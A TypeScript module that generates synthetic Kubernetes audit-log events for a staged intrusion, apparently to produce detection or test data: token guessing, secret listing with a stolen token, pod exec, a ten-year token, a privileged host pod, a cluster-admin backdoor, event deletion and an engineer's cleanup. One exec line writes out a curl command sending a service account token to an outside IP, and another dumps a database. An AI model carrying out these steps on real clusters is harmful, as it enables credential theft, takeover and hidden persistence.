import { callers, engineer } from './callers.ts';
import { onCall } from './everyday.ts';
import { hostPod, secretList, serviceAccountToken } from './objects.ts';
import type { Caller, Scene } from './scene.ts';

const core = (resource: string, more: Readonly<Record<string, string>> = {}): Readonly<Record<string, string>> => ({
  resource,
  ...more,
  apiVersion: 'v1',
});
const rbac = (resource: string, name: string): Readonly<Record<string, string>> => ({
  resource,
  name,
  apiGroup: 'rbac.authorization.k8s.io',
  apiVersion: 'v1',
});

/** Guessed tokens. The API server refuses before it knows a user, so `user` is empty. */
function guessTokens(scene: Scene, at: number): void {
  for (let i = 0; i < 24; i++) {
    scene.add({
      at: at + i * 160,
      by: callers.nobody,
      verb: 'list',
      uri: '/api/v1/namespaces/shop/pods?limit=1',
      object: core('pods', { namespace: 'shop' }),
      code: 401,
      stage: 'ResponseStarted',
      message: 'Unauthorized',
    });
  }
}

/** What can one see without any token? */
function probeAnonymously(scene: Scene, at: number): void {
  ['secrets', 'pods', 'nodes', 'namespaces', 'configmaps', 'serviceaccounts', 'services', 'events'].forEach((resource, i) => {
    const message = `${resource} is forbidden: User "system:anonymous" cannot list resource "${resource}" in API group "" at the cluster scope`;
    scene.add({
      at: at + i * 250,
      by: callers.anonymous,
      verb: 'list',
      uri: `/api/v1/${resource}`,
      object: core(resource),
      code: 403,
      message,
    });
  });
}

/** A token read from a pod is used from outside: first question, what am I allowed to do? */
function useStolenToken(scene: Scene, at: number): void {
  const by = callers.stolen;
  scene.add({
    at,
    by,
    verb: 'create',
    uri: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    object: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' },
    code: 201,
    level: 'Request',
    request: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: 'shop' } },
  });
  scene.add({ at: at + 700, by, verb: 'list', uri: '/api/v1/namespaces', object: core('namespaces') });
  scene.add({
    at: at + 1500,
    by,
    verb: 'list',
    uri: '/api/v1/namespaces/shop/secrets',
    object: core('secrets', { namespace: 'shop' }),
    level: 'RequestResponse',
    response: secretList(scene, [
      ['shop', 'checkout-db'],
      ['shop', 'checkout-session'],
      ['shop', 'payments-gateway'],
    ]),
  });
  scene.add({
    at: at + 2600,
    by,
    verb: 'list',
    uri: '/api/v1/secrets?limit=500',
    object: core('secrets'),
    level: 'RequestResponse',
    response: secretList(scene, [
      ['ci', 'registry-push'],
      ['kube-system', 'bootstrap-signer'],
      ['monitoring', 'grafana-admin'],
      ['shop', 'catalog-session'],
    ]),
  });
}

const command = (words: readonly string[]): string =>
  words.map((word) => `command=${encodeURIComponent(word).replaceAll('%20', '+')}`).join('&');

function execInto(scene: Scene, at: number, by: Caller, pod: string, words: readonly string[]): void {
  const uri = `/api/v1/namespaces/shop/pods/${pod}/exec?${command(words)}&container=payments&stderr=true&stdout=true`;
  const object = core('pods', { namespace: 'shop', name: pod, subresource: 'exec' });
  scene.add({ at, by, verb: 'get', uri, object, code: 101, stage: 'ResponseStarted' });
  scene.add({ at: at + 900, by, verb: 'get', uri, object, code: 101 });
}

/** Into another workload's pod, for its token and its database. */
function moveThroughPods(scene: Scene, at: number): void {
  const pod = 'payments-6d9f7c4b58-x2k7q';
  const password = scene.plant.password('exec: password in a command line');
  execInto(scene, at, callers.stolen, pod, [
    'sh',
    '-c',
    `curl -s -H "Authorization: Bearer ${scene.plant.jwt('exec: bearer token', 'system:serviceaccount:shop:checkout')}" --data @${serviceAccountToken} https://203.0.113.66/in`,
  ]);
  execInto(scene, at + 2200, callers.stolen, pod, [
    'mysqldump',
    '--host=db.shop.svc',
    '--user=payments',
    `--password=${password}`,
    'orders',
  ]);
}

/** A token for a strong account, valid for ten years, and a pod that owns its node. */
function takeOver(scene: Scene, at: number): void {
  const account = 'clusterrole-aggregation-controller';
  const token = scene.plant.jwt('TokenRequest: response', `system:serviceaccount:kube-system:${account}`);
  scene.add({
    at,
    by: callers.stolen,
    verb: 'create',
    uri: `/api/v1/namespaces/kube-system/serviceaccounts/${account}/token`,
    object: core('serviceaccounts', { namespace: 'kube-system', name: account, subresource: 'token' }),
    code: 201,
    level: 'RequestResponse',
    request: {
      kind: 'TokenRequest',
      apiVersion: 'authentication.k8s.io/v1',
      spec: { audiences: null, expirationSeconds: 315_360_000 },
    },
    response: {
      kind: 'TokenRequest',
      apiVersion: 'authentication.k8s.io/v1',
      spec: { expirationSeconds: 315_360_000 },
      status: { token, expirationTimestamp: '2034-11-20T09:00:00Z' },
    },
  });
  const pod = hostPod(scene, 'kube-system', 'node-metrics-agent-7x2kq');
  scene.add({
    at: at + 4000,
    by: callers.stolen,
    verb: 'create',
    uri: '/api/v1/namespaces/kube-system/pods?fieldManager=kubectl-create',
    object: core('pods', { namespace: 'kube-system', name: 'node-metrics-agent-7x2kq' }),
    code: 201,
    level: 'RequestResponse',
    request: pod,
    response: pod,
  });
}

/** A way back in: an account of an innocent name that may do everything. */
function leaveBackDoor(scene: Scene, at: number): void {
  const name = 'node-metrics-agent';
  scene.add({
    at,
    by: callers.stolen,
    verb: 'create',
    uri: '/api/v1/namespaces/kube-system/serviceaccounts',
    object: core('serviceaccounts', { namespace: 'kube-system', name }),
    code: 201,
    level: 'Request',
    request: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name, namespace: 'kube-system' } },
  });
  const binding = {
    kind: 'ClusterRoleBinding',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name },
    subjects: [{ kind: 'ServiceAccount', name, namespace: 'kube-system' }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  };
  scene.add({
    at: at + 1200,
    by: callers.stolen,
    verb: 'create',
    uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    object: rbac('clusterrolebindings', name),
    code: 201,
    level: 'RequestResponse',
    request: binding,
    response: binding,
  });
}

/** With the new account: impersonation, and the traces removed. */
function coverTracks(scene: Scene, at: number): void {
  const by = callers.backdoor;
  scene.add({
    at,
    by,
    verb: 'list',
    uri: '/api/v1/nodes',
    object: core('nodes'),
    impersonated: { username: 'system:admin', groups: ['system:masters', 'system:authenticated'] },
  });
  scene.add({
    at: at + 1800,
    by,
    verb: 'deletecollection',
    uri: '/api/v1/namespaces/shop/events',
    object: core('events', { namespace: 'shop' }),
    level: 'Request',
  });
  scene.add({
    at: at + 2600,
    by,
    verb: 'deletecollection',
    uri: '/api/v1/namespaces/kube-system/events',
    object: core('events', { namespace: 'kube-system' }),
    level: 'Request',
  });
}

/** The engineer on call sees the findings and closes the door. */
function respond(scene: Scene, at: number): void {
  const by = engineer(scene.plant.email('user name', onCall));
  scene.add({
    at,
    by,
    verb: 'list',
    uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500',
    object: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
  });
  scene.add({
    at: at + 2400,
    by,
    verb: 'delete',
    uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/node-metrics-agent',
    object: rbac('clusterrolebindings', 'node-metrics-agent'),
  });
  scene.add({
    at: at + 3900,
    by,
    verb: 'delete',
    uri: '/api/v1/namespaces/kube-system/pods/node-metrics-agent-7x2kq',
    object: core('pods', { namespace: 'kube-system', name: 'node-metrics-agent-7x2kq' }),
  });
}

/** One intruder, one stolen token, from the first guess to the cleaned-up traces. */
export function intrusion(scene: Scene): void {
  guessTokens(scene, 9_000);
  probeAnonymously(scene, 15_000);
  useStolenToken(scene, 22_000);
  moveThroughPods(scene, 28_000);
  takeOver(scene, 34_000);
  leaveBackDoor(scene, 42_000);
  coverTracks(scene, 46_500);
  respond(scene, 53_000);
}
